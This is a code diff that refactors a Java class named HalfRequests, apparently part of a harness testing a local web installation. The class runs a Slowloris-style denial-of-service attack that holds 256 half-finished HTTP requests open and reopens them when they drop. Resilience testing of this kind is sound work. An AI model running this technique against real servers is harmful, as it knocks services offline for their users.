@@ -7,11 +7,7 @@ import dev.parallax.attack.AttackRecord;
 import dev.parallax.attack.AttackResult;
 import dev.parallax.attack.Installation;
 import java.io.IOException;
-import java.net.Socket;
-import java.net.SocketTimeoutException;
 import java.time.Duration;
-import java.util.ArrayList;
-import java.util.List;
 import java.util.Optional;
 
 /** 256 connections on the HTTP port, each with half a request, opened again when they are cut. */
@@ -19,7 +15,7 @@ public final class HalfRequests implements Attack {
   private static final int CONNECTIONS = 256;
   private static final Duration IN_TIME = Duration.ofSeconds(2);
 
-  private final List<Socket> sockets = new ArrayList<>();
+  private final HeldSockets sockets = new HeldSockets();
   private int asked;
   private int answered;
 
@@ -42,32 +38,18 @@ public final class HalfRequests implements Attack {
   }
 
   private int fill(Installation at) {
-    sockets.removeIf(HalfRequests::isCut);
+    sockets.dropClosed();
     int opened = 0;
-    while (sockets.size() < CONNECTIONS) {
+    while (sockets.count() < CONNECTIONS) {
       try {
-        var socket = new Socket();
-        socket.bind(Strangers.SOURCE);
-        socket.connect(at.web(), 500);
-        socket.setSoTimeout(1);
-        socket.getOutputStream().write("GET / HTTP/1.1\r\nHost: 127".getBytes(US_ASCII));
-        sockets.add(socket);
+        var request = "GET / HTTP/1.1\r\nHost: 127".getBytes(US_ASCII);
+        sockets.open(at.web(), 500).getOutputStream().write(request);
         opened++;
       } catch (IOException refused) {
         break;
       }
     }
     return opened;
-  }
-
-  private static boolean isCut(Socket socket) {
-    try {
-      return socket.getInputStream().read() < 0;
-    } catch (SocketTimeoutException open) {
-      return false;
-    } catch (IOException closed) {
-      return true;
-    }
   }
 
   private static boolean answers(Installation at) {
@@ -86,12 +68,6 @@ public final class HalfRequests implements Attack {
 
   @Override
   public void close() {
-    for (var socket : sockets) {
-      try {
-        socket.close();
-      } catch (IOException closed) {
-        // It was to be closed.
-      }
-    }
+    sockets.close();
   }
 }
